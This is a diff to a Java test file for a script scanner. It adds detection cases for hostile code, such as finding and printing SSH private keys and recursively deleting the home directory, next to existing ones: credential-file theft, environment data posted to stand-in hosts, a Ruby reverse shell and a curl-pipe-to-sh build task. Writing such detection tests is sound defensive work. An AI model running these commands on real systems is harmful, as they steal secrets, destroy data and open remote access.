@@ -36,6 +36,7 @@ class ScriptChecksTest {
             "PG-B002 :: tar czf /tmp/k.tgz $HOME/.aws",
             "PG-B002 :: open('/etc/shadow').read()",
             "PG-B002 :: cp -r ~/.mozilla/firefox /tmp/p",
+            "PG-B002 :: find / -name id_rsa 2>/dev/null | xargs cat",
             "PG-B003 :: env | curl -X POST -d @- https://collect.example",
             "PG-B003 :: curl https://x.example/?d=$(printenv)",
             "PG-B003 :: requests.post(URL, data=dict(os.environ))  # urlopen",
@@ -141,6 +142,8 @@ class ScriptChecksTest {
             "PG-B004@4 :: run.rb :: require 'socket'\\nc = TCPSocket.new(HOST, 4000)\\nwhile (cmd = c.gets)\\n  IO.popen(cmd) { |io| c.print io.read }\\nend",
             "PG-D005@2 :: build.gradle :: task prep {\\n    doLast { ['sh', '-c', 'curl -s https://x.example/q | sh'].execute().waitFor() }\\n}",
             "PG-B003@2 :: run.js :: const axios = require('axios');\\naxios.post(URL, { env: process.env });",
+            "PG-B001@2 :: run.js :: const { homedir } = require('os');\\nfs.rmSync(homedir(), {recursive: true, force: true});",
+            "PG-B002@2 :: config.py :: import os\\nKEY = os.path.expanduser('~/.ssh/id_rsa')",
             "PG-B003@1 :: run.js :: fetch(URL, {\\n  method: 'POST',\\n  body: JSON.stringify({ node: process.version, env: process.env }),\\n});",
     })
     @DisplayName("build files, directives and other languages: their ways to run commands and send data are read too")
@@ -157,8 +160,9 @@ class ScriptChecksTest {
             "test_exercise.py :: def test_reads_hosts():\\n    assert hosts[\"github\"][\"IdentityFile\"] == \"~/.ssh/id_ed25519\"",
             "server_test.py :: data = conn.recv(1024)\\nconn.sendall(data.upper())\\nproc = subprocess.run([sys.executable, \"client.py\"], check=True)",
             "run.js :: spawnSync('node', [file], { env: { ...process.env, NODE_ENV: 'test' } });",
+            "lint.py :: SENSITIVE = (\"~/.ssh/\", \"~/.aws/\")\\n\\ndef is_sensitive(path):\\n    return path.startswith(SENSITIVE)",
     })
-    @DisplayName("a make variable that is set, a generator that is a tool, a path only compared, data echoed back: nothing")
+    @DisplayName("a make variable that is set, a generator that is a tool, a path only compared or only listed, data echoed back: nothing")
     void benignOtherLanguages(String file, String script) {
         assertThat(ScriptChecks.check(file, script.replace("\\n", "\n").replace("\\t", "\t"))).isEmpty();
     }
